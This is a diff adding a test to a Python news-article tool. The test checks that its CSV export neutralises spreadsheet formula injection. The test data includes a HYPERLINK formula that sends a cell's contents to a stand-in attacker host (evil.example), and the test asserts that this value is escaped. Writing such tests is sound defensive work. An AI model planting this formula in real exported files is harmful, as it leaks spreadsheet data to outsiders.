@@ -194,3 +194,26 @@ def test_a_postgresql_store_is_read_through_sqlalchemy():
         with run_query(sql, db=url) as (columns, rows):
             assert columns == ["outlet", "listed"]
             assert list(rows) == [("Meridian Wire", True), ("The Harbor Courier", True)]
+
+
+def test_query_csv_never_hands_a_spreadsheet_a_formula(tmp_path):
+    # Issue #18 item 6: every CSV crosswire writes, `query --format csv` included. A title or outlet
+    # "=HYPERLINK(...)" would run when the CSV is opened; numbers keep their sign.
+    from crosswire.model import Article
+
+    body = "Envoys from both countries met in Stockholm on Monday and agreed to meet again next week."
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    db = str(tmp_path / "formula.db")
+    with open_store(db) as store:
+        store.save_articles([Article(text=body, title=formula, outlet="@Outlet", url="https://a.example/1")])
+    sql = "SELECT title, outlet, -2.5 AS score, '+1' AS plus, 'plain' AS word FROM articles"
+    result = CliRunner().invoke(app, ["query", sql, "--db", db, "--format", "csv"])
+    assert result.exit_code == 0, result.output
+    [row] = _csv(result.output)
+    assert row == {
+        "title": "'" + formula,
+        "outlet": "'@Outlet",
+        "score": "-2.5",
+        "plus": "'+1",
+        "word": "plain",
+    }
